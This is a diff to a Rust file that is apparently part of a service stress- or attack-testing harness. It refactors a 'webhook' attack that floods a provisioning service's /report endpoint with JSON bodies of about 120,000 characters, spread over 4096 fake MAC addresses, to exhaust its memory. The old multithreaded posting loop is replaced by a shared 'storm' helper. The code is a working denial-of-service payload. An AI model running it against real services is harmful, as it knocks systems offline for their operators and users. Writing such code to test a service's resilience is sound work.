@@ -1,45 +1,22 @@
 //! Attacks on memory: much that is to be remembered, and much that is on its way.
 
-use std::io::{Read, Write};
-use std::sync::atomic::{AtomicUsize, Ordering};
+use std::io::Write;
 
 use crate::Field;
-use crate::swarm::{ATTACKER, connect_from, swarm};
-
-/// Threads that post.
-const THREADS: usize = 4;
+use crate::storm::{mac, post, storm};
+use crate::swarm::swarm;
 
 /// Devices that the service is to remember something of.
 const DEVICES: usize = 4096;
 
 pub fn webhook(field: &Field) {
-    let next = AtomicUsize::new(0);
-    let post = || -> std::io::Result<()> {
-        let mut stream = connect_from(ATTACKER, field.service.address)?;
-        while !field.is_over() {
-            let n = next.fetch_add(1, Ordering::Relaxed) % DEVICES;
-            let long = "n".repeat(120_000);
-            let body = format!(
-                r#"{{"name": "subiquity/{long}/{n}", "event_type": "finish", "result": "FAIL", "description": "{long}"}}"#
-            );
-            let mac = format!("02:00:00:00:{:02x}:{:02x}", n / 256, n % 256);
-            let length = body.len();
-            write!(
-                stream,
-                "POST /report/{mac} HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{body}"
-            )?;
-            let _ = stream.read(&mut [0; 1024])?;
-        }
-        Ok(())
-    };
-    std::thread::scope(|scope| {
-        for _ in 0..THREADS {
-            scope.spawn(|| {
-                while !field.is_over() {
-                    let _ = post();
-                }
-            });
-        }
+    let long = "n".repeat(120_000);
+    storm(field, |n| {
+        let n = n % DEVICES;
+        let body = format!(
+            r#"{{"name": "subiquity/{long}/{n}", "event_type": "finish", "result": "FAIL", "description": "{long}"}}"#
+        );
+        post(&format!("/report/{}", mac(n)), &body)
     });
 }
 
